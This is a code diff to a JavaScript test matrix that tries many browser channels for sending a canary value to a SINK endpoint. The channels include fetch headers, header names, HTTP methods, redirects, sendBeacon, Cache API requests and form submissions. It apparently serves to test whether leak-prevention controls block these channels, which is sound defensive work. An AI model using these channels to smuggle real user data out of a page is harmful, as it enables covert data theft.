@@ -61,6 +61,26 @@
       'fetch-view': (cell, canary) => post(cell, part(canary)),
       'fetch-header': (cell, canary) => from.fetch(at(cell), { headers: { 'x-canary': canary } }),
       'fetch-keepalive': (cell, canary) => post(cell, canary, { keepalive: true }),
+      'fetch-accept': (cell, canary) => from.fetch(at(cell), { headers: { accept: canary } }),
+      'fetch-if-none-match': (cell, canary) => from.fetch(at(cell), { headers: { 'if-none-match': canary } }),
+      'fetch-content-type': (cell, canary) =>
+        post(cell, 'x', { headers: { 'content-type': `text/plain; x=${canary}` } }),
+      'fetch-header-name': (cell, canary) => from.fetch(at(cell), { headers: { [`x-${canary}`]: '1' } }),
+      'fetch-method': (cell, canary) => from.fetch(at(cell), { method: canary.toUpperCase() }),
+      'refused-url': (cell, canary) =>
+        from.fetch(`${at(cell)}?id=${canary}`, { headers: { 'x-canary': '1' } }),
+      'refused-header-name': (cell, canary) => from.fetch(at(cell), { headers: { [`x-${canary}`]: '1' } }),
+      redirect: (cell) => from.fetch(`${SINK}/redirect/${cell}`),
+      'redirect-body': (cell, canary) =>
+        from.fetch(`${SINK}/redirect/${cell}?307`, { method: 'POST', body: canary }),
+      'beacon-params': (cell, canary) =>
+        from.navigator.sendBeacon(at(cell), new URLSearchParams({ id: canary })),
+      'beacon-json': (cell, canary) =>
+        from.navigator.sendBeacon(at(cell), new Blob([`{"id":"${canary}"}`], { type: 'application/json' })),
+      'cache-add': async (cell, canary) => {
+        const cache = await from.caches.open('matrix');
+        await cache.add(`${at(cell)}?id=${canary}`);
+      },
       'fetch-no-cors': (cell, canary) => post(cell, canary, { mode: 'no-cors' }),
       'fetch-gzip': async (cell, canary) =>
         post(cell, await gzip(canary), { headers: { 'content-encoding': 'gzip' } }),
@@ -135,16 +155,15 @@
     document.head.append(node);
     await settle(600);
   };
-  const submit = async (cell, method, canary) => {
+  const submit = async (cell, method, inner, send) => {
     const target = document.createElement('iframe');
     target.name = `form-${cell}`;
     document.body.append(target);
     const node = document.createElement('form');
     Object.assign(node, { method, action: at(cell), target: target.name });
-    node.innerHTML = `<input name="id" value="${canary}">`;
+    node.innerHTML = inner;
     document.body.append(node);
-    if (method === 'get') node.requestSubmit();
-    else node.submit();
+    send(node);
     await settle(900);
   };
 
@@ -213,8 +232,10 @@
     iframe: (cell, canary) => append('iframe', { src: `${at(cell)}?id=${canary}` }),
     object: (cell, canary) => append('object', { type: 'image/png', data: `${at(cell)}?id=${canary}` }),
     video: (cell, canary) => append('video', { src: `${at(cell)}?id=${canary}`, preload: 'auto' }),
-    'form-get': (cell, canary) => submit(cell, 'get', canary),
-    'form-post': (cell, canary) => submit(cell, 'post', canary),
+    'form-get': (cell, canary) =>
+      submit(cell, 'get', `<input name="id" value="${canary}">`, (form) => form.requestSubmit()),
+    'form-post': (cell, canary) =>
+      submit(cell, 'post', `<input name="id" value="${canary}">`, (form) => form.submit()),
     'a-ping': async (cell, canary) => {
       const target = document.createElement('iframe');
       target.name = `ping-${cell}`;
@@ -298,4 +319,5 @@
   };
   self.waysOf = waysOf;
   self.matrixWays = ways;
+  if (inWindow) self.matrixTools = { SINK, at, settle, append, style, submit };
 })();
